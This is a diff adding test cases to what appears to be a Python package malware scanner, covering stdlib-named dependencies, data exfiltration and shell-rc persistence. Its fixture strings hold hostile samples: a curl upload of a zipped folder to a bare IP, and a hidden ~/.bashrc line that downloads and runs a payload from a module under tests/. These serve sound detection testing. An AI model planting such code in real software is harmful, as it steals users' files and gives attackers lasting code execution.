@@ -1022,6 +1022,81 @@ def test_obfuscation_benign_text_from_codes(tmp_path: Path, scanner: Scanner) ->
     assert_quiet(result, "obfuscation", below=Severity.MEDIUM)
 
 
+def test_stdlib_dependency_fires(tmp_path: Path, scanner: Scanner) -> None:
+    files = {f"{DEFAULT_NAME}.egg-info/requires.txt": "requests\nshutil\nzipfile>=0.1\n\n[dev]\npytest\n"}
+    result = scan(write_sdist(tmp_path, files), scanner)
+    found = assert_fires(result, "stdlib-dependency", Verdict.SUSPICIOUS, severity=Severity.HIGH)
+    assert found[0].snippet == "shutil, zipfile", describe(result)
+
+
+def test_stdlib_dependency_benign_backports(tmp_path: Path, scanner: Scanner) -> None:
+    files = {f"{DEFAULT_NAME}.egg-info/requires.txt": "typing\ndataclasses\nenum34\nfutures\n\n[x]\nos\n"}
+    result = scan(write_sdist(tmp_path, files), scanner)
+    assert_quiet(result, "stdlib-dependency")
+
+
+CURL_UPLOAD_LIBRARY = """import os
+
+
+def backup(folder):
+    os.system(f"zip -r /tmp/b.zip {folder}")
+    os.system('curl -k -F "file=@/tmp/b.zip" "https://192.0.2.1/api/upload"')
+"""
+CURL_UPLOAD_OWN_SERVER = """import os
+
+
+def publish(path, server):
+    os.system(f'curl -F "file=@{path}" {server}/upload')
+"""
+
+
+def test_exfil_sink_fires_for_curl_upload_to_bare_ip(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/bk.py": CURL_UPLOAD_LIBRARY}), scanner)
+    assert_fires(result, "exfil-sink", Verdict.SUSPICIOUS, severity=Severity.HIGH)
+
+
+def test_exfil_sink_benign_curl_upload_to_configured_server(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/pub.py": CURL_UPLOAD_OWN_SERVER}), scanner)
+    assert_quiet(result, "exfil-sink", below=Severity.HIGH)
+
+
+RC_IMPLANT_TEST_MODULE = """import os
+
+
+def reset_modules():
+    rc = os.path.expanduser("~/.bashrc")
+    with open(rc, "a") as handle:
+        handle.write("nohup sh -c 'wget -q http://127.0.0.1:9/p -O /tmp/p; sh /tmp/p' &")
+"""
+RC_IMPORTER = "from .tests import helpers\n\n\ndef init():\n    helpers.reset_modules()\n"
+RC_PATH_EXPORT = """import os
+
+
+def add_to_path(folder):
+    with open(os.path.expanduser("~/.bashrc"), "a") as handle:
+        handle.write(f"export PATH={folder}:$PATH")
+"""
+
+
+def test_persistence_fires_for_download_appended_to_rc_from_imported_test_module(
+    tmp_path: Path, scanner: Scanner
+) -> None:
+    # The payload sits under tests/, but library code imports it: it is library code.
+    files = {
+        f"{DEFAULT_NAME}/tests/helpers.py": RC_IMPLANT_TEST_MODULE,
+        f"{DEFAULT_NAME}/colors.py": RC_IMPORTER,
+    }
+    result = scan(write_sdist(tmp_path, files), scanner)
+    assert_fires(
+        result, "persistence", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith="tests/helpers.py"
+    )
+
+
+def test_persistence_benign_path_export(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/setup_env.py": RC_PATH_EXPORT}), scanner)
+    assert_quiet(result, "persistence", not_verdict=Verdict.SUSPICIOUS, below=Severity.HIGH)
+
+
 def test_sabotage_fires(tmp_path: Path, scanner: Scanner) -> None:
     result = scan(write_sdist(tmp_path, {INIT: SABOTAGE_INIT}), scanner)
     assert_fires(result, "sabotage", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
@@ -1708,6 +1783,7 @@ POSITIVE_TESTS: dict[str, str] = {
     "typosquat": "test_typosquat_fires",
     "placeholder-version": "test_placeholder_version_fires",
     "metadata-missing": "test_metadata_missing_fires",
+    "stdlib-dependency": "test_stdlib_dependency_fires",
     "archive-unsafe-path": "test_archive_unsafe_path_fires",
     "archive-link": "test_archive_link_fires",
     "archive-special-file": "test_archive_special_file_fires",
